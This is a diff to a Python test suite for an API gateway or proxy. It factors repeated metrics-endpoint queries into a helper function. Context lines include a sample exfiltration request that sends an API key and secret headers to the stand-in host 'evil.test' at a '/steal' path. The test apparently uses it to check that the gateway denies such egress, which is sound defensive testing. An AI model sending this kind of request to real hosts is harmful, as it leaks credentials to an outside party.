@@ -107,6 +107,12 @@ def through_tunnel(gw: Gateway, host: str, data: bytes) -> bytes:
             return read_all(tls)
 
 
+def metrics_when_recorded(gw: Gateway, records: int, headers: dict[str, str]) -> bytes:
+    """The metrics endpoint's answer (asked with `headers`), once `records` usage records are written."""
+    gw.records(count=records, timeout=10)
+    return send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, headers, "GET"))
+
+
 @pytest.fixture(scope="module")
 def traffic(tmp_path_factory):
     """One gateway, every path once, then stopped (which flushes the flow file); yields (gateway, flows
@@ -141,8 +147,7 @@ def traffic(tmp_path_factory):
             got["denied-connect"] = through_tunnel(gw, "evil.test", b"")
             got["denied-plain"] = send(gw.regular_port, request(
                 f"http://evil.test/steal?api_key=KEY{TOKEN}", "evil.test", None, SECRETS, "GET"))
-            gw.records(count=len(base) + 1, timeout=10)
-            got["metrics"] = send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, SECRETS, "GET"))
+            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, SECRETS)
         yield gw, flows, got, fake
 
 
@@ -261,8 +266,7 @@ credentials:
             got["not-api"] = send(gw.reverse_port, request("/v1/models", "127.0.0.1", None, token, "GET"))
             got["egress"] = through_tunnel(gw, "api.anthropic.com", request(
                 "/v1/messages", "api.anthropic.com", {**MESSAGES, "stream": True}, {**token, "x-session-id": "custody-egress"}))
-            gw.records(count=len(base) + 1, timeout=10)
-            got["metrics"] = send(gw.reverse_port, request("/-/metrics", "127.0.0.1", None, token, "GET"))
+            got["metrics"] = metrics_when_recorded(gw, len(base) + 1, token)
         yield gw, flows, got, fake
 
 
